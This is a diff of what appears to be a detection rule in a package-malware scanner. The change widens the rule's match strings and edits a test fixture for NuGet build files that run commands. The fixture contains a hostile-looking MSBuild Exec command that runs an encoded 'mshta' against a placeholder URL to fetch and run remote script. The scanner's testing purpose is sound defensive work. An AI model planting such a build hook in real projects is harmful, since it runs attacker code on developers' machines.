@@ -24,7 +24,7 @@ command, or uses what only attacks use: script hosts fed from the network, sched
 together first. Campaigns of 2023 and 2024 with 60 packages and more began this way.
 
 A plain download of a tool by a well-known project counts in part only.`,
-  literals: ["<exec"],
+  literals: ["<exec", "tasks.exec"],
   *detect(tree) {
     for (const build of buildFiles(tree)) {
       for (const { node, command } of commands(build)) {
@@ -71,7 +71,7 @@ A plain download of a tool by a well-known project counts in part only.`,
         ecosystem: "nuget",
         files: {
           "build/Demo.targets":
-            '<Project><Target Name="T"><Exec Command="m%73hta https://example.invalid/a" /></Target></Project>',
+            '<Project><Target Name="T"><Microsoft.Build.Tasks.Exec Command="m%73hta https://example.invalid/a" /></Target></Project>',
         },
       },
       {
